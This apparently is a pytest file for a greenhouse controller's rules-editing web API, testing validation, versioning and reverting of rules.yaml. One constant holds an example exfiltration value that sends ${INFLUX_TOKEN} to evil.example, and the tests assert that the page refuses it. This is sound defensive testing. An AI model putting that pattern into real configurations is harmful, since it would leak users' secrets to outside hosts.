"""Rules over the page's API, on a whole controller: checked, applied, kept, and brought back."""

import asyncio
from pathlib import Path

import pytest

from controller.app.control import Refused
from controller.web.check_process import report
from controller.web.checking import Checker
from controller.web.language import speech
from controller.web.views.rules import diff
from simulators.demo import files
from tests.app.wait import until

from .whole import Whole


async def test_a_mistake_has_its_line_and_changes_nothing(whole: Whole) -> None:
    before = whole.rules.read_text()
    wrong = before.replace("air.temperature < heating_temperature", "air.temprature < heating_temperature")
    line = next(n for n, text in enumerate(wrong.splitlines(), 1) if "temprature" in text)
    found = (await whole.client.ask("/api/rules/check", {"rules": wrong})).json()
    (error,) = found["errors"]
    assert (error["line"], error["suggestion"]) == (line, "did you mean air.temperature?")
    answer = await whole.client.ask("/api/rules", {"rules": wrong})
    assert answer.code == 422
    assert answer.json()["error"].startswith(f"rules.yaml:{line}:{error['column']}: ")
    assert answer.json()["error"].endswith("(did you mean air.temperature?)")
    assert whole.rules.read_text() == before


async def test_right_rules_are_applied_as_they_are_written_and_can_be_taken_back(whole: Whole) -> None:
    before = whole.rules.read_text()
    whole.rules.chmod(0o640)
    after = before.replace("> 15 m/s", "> 14 m/s   # an old roof")
    assert (await whole.client.ask("/api/rules", {"rules": after})).json() == {"done": "the new rules are in force"}
    assert whole.rules.read_text() == after
    assert whole.rules.stat().st_mode & 0o777 == 0o640
    assert [path.name for path in whole.rules.parent.iterdir() if path.name.startswith(".")] == []
    records = whole.desk.records
    assert records is not None
    await until(lambda: len(records.versions()) == 2, what="two versions in the store")
    newest, oldest = await asyncio.to_thread(records.versions)
    assert (newest.text, oldest.text) == (after, before)
    page = (await whole.client.get(f"/rules/version/{oldest.at_ns}")).text
    assert "an old roof" in page
    await whole.client.submit(f"/rules/version/{oldest.at_ns}", {})
    assert whole.rules.read_text() == before
    notes = await asyncio.to_thread(records.history.entries, 0, 1 << 62, "rules")
    assert "rules.yaml was replaced by the page" in notes[-1].body


SENT_AWAY = 'high: ["http://evil.example/${INFLUX_TOKEN}"]'
REFUSED = (
    "rules.yaml:{line}:{column}: the rules in force have no ${{INFLUX_TOKEN}} in just this value, and behind it may be "
    "a secret (edit rules.yaml on the machine)"
)


async def test_no_secret_is_brought_into_the_rules_from_the_page(whole: Whole) -> None:
    before = whole.rules.read_text()
    edited = before.replace('high: ["${ALARM_URL}"]', SENT_AWAY)
    line, text = next((n, text) for n, text in enumerate(edited.splitlines(), 1) if SENT_AWAY in text)
    refused = REFUSED.format(line=line, column=text.index("$") + 1)
    (error,) = (await whole.client.ask("/api/rules/check", {"rules": edited})).json()["errors"]
    assert (error["line"], error["suggestion"]) == (line, "edit rules.yaml on the machine")
    (error,) = (await whole.client.ask("/api/rules/check?language=ko", {"rules": edited})).json()["errors"]
    assert error["message"].startswith("시행 중인 규칙에는 ${INFLUX_TOKEN}")
    for path, code in (("/api/rules", 422), ("/api/shadow", 422), ("/api/rules/try", 400)):
        answer = await whole.client.ask(path, {"rules": edited})
        assert (answer.code, answer.json()["error"]) == (code, refused)
    records = whole.desk.records
    assert records is not None
    with pytest.raises(Refused, match="on the machine"):
        records.write_rules(edited, "kim")
    assert whole.rules.read_text() == before


async def test_an_old_version_brings_no_secret_back(whole: Whole) -> None:
    with_alarms = whole.rules.read_text()
    without = with_alarms.replace('  high: ["${ALARM_URL}"]\n', "").replace('["${ALARM_URL}"]', "[]")
    assert "done" in (await whole.client.ask("/api/rules", {"rules": without})).json()
    records = whole.desk.records
    assert records is not None
    await until(lambda: len(records.versions()) == 2, what="two versions in the store")
    _, oldest = await asyncio.to_thread(records.versions)
    assert oldest.text == with_alarms
    answer = await whole.client.submit(f"/rules/version/{oldest.at_ns}", {})
    assert answer.code == 400
    assert "제어기에서 직접 rules.yaml을 고치세요" in answer.text
    assert whole.rules.read_text() == without


async def test_rules_that_cannot_be_written_are_refused_in_words(whole: Whole, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("controller.app.writing.tempfile.mkstemp", full)
    text = whole.rules.read_text()
    answer = await whole.client.ask("/api/rules", {"rules": f"{text}# more\n"})
    assert (answer.code, answer.json()["error"]) == (400, "rules.yaml cannot be written: No space left on device")
    assert whole.rules.read_text() == text


def test_the_report_of_house1() -> None:
    files.environment()
    site = (files.EXAMPLE / "site.yaml").read_text()
    rules = (files.EXAMPLE / "rules.yaml").read_text()
    question = {
        "site": site,
        "rules": rules,
        "in_force": rules,
        "now": 1782000000,
        "language": "ko",
        "values": {"outside.radiation": 800.0},
    }
    found = report(question)
    assert found["errors"] == []
    named = [sentence["name"] for sentence in found["sentences"]]
    assert named[:2] == ["Heat up to the setpoint", "Ventilate in proportion"]
    assert {"Storm", "Slab A by light", "Frost"} <= set(named)
    lines = rules.splitlines()
    assert all(1 <= sentence["line"] <= len(lines) for sentence in found["sentences"])
    assert set(found["setpoints"]["lines"]["light_bonus"]) == {2.0}
    assert {"air.vpd", "roof_vent", "morning", "radiation_sum"} <= set(found["words"])


def test_a_finding_has_its_witness() -> None:
    files.environment()
    site = (files.EXAMPLE / "site.yaml").read_text()
    rules = (files.EXAMPLE / "rules.yaml").read_text()
    bright = "  - {name: Let the sun in, when: outside.radiation > 600 W/m², do: {shade_screen: 0 %}}\n"
    rules = rules.replace("irrigation:\n", f"{bright}\nirrigation:\n", 1)
    found = report({"site": site, "rules": rules, "in_force": rules, "now": 1782000000, "language": "en", "values": {}})
    assert found["errors"] == []
    assert any(finding["witness"] and finding["line"] for finding in found["findings"])


async def test_a_check_that_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("controller.web.checking.PATIENCE", 0.05)
    with pytest.raises(Refused, match="took longer"):
        await Checker().check({"site": "", "rules": "", "in_force": "", "now": 0, "language": "en", "values": {}})


async def test_a_check_that_dies_is_told() -> None:
    with pytest.raises(Refused, match="KeyError"):
        await Checker().check({})


async def test_a_trial_runs_the_verb_on_both_texts(monkeypatch: pytest.MonkeyPatch) -> None:
    """The verb is somebody else's: what is handed to it is two directories, a day and a length."""
    asked: list[list[str]] = []
    texts: list[str] = []

    async def run(arguments: list[str], given: bytes, patience: float) -> tuple[bytes, str]:
        asked.append(arguments)
        texts.extend((Path(arguments[at]) / "rules.yaml").read_text() for at in (3, 5))
        return b"the report", ""

    monkeypatch.setattr("controller.web.checking.output", run)
    assert await Checker().backtest("site", "new", "old", "2026-06-21", 3) == "the report"
    assert texts == ["new", "old"]
    assert asked[0][:3] == ["-m", "controller.cli", "backtest"]
    assert asked[0][4] == "--against"
    assert asked[0][6:] == ["--start", "2026-06-21", "--days", "3"]
    assert not await asyncio.to_thread(Path(asked[0][3]).exists)


def test_the_difference_of_two_texts() -> None:
    found = diff("a: 1\nb: <2>\n", "a: 1\nb: 3\n", speech("en"))
    assert '<span class="removed">-b: &lt;2&gt;\n</span>' in found
    assert '<span class="added">+b: 3\n</span>' in found
    assert "No difference" in diff("a", "a", speech("en"))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("name: Storm", "name: ${INFLUX_TOKEN}"),
        ('high: ["${ALARM_URL}"]', "high: ${INFLUX_TOKEN}"),
        ("priority: critical", "priority: ${INFLUX_TOKEN}"),
        ("air.temperature > 38 °C", "air.temperature > ${INFLUX_TOKEN}"),
    ],
)
def test_a_check_tells_no_secret(monkeypatch: pytest.MonkeyPatch, old: str, new: str) -> None:
    for name in ("MQTT_PASSWORD", "INFLUX_TOKEN", "ALARM_URL"):
        monkeypatch.setenv(name, "mailto://secret-of-mine")
    site, rules = ((files.EXAMPLE / name).read_text(encoding="utf-8") for name in ("site.yaml", "rules.yaml"))
    assert old in rules
    question = {"site": site, "in_force": rules, "now": 1_782_000_000, "language": "en", "values": {}}
    assert report({**question, "rules": rules})["errors"] == []
    assert "secret-of-mine" not in str(report({**question, "rules": rules.replace(old, new, 1)}))


def test_a_check_takes_numbers_from_variables(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("MQTT_PASSWORD", "INFLUX_TOKEN", "ALARM_URL", "HOT"):
        monkeypatch.setenv(name, "38")
    site, rules = ((files.EXAMPLE / name).read_text(encoding="utf-8") for name in ("site.yaml", "rules.yaml"))
    rules = rules.replace("when: air.temperature > 38 °C for 5 min", 'when: "air.temperature > ${HOT} °C for 5 min"')
    question = {
        "site": site,
        "rules": rules,
        "in_force": rules,
        "now": 1_782_000_000,
        "language": "en",
        "values": {},
    }
    assert report(question)["errors"] == []
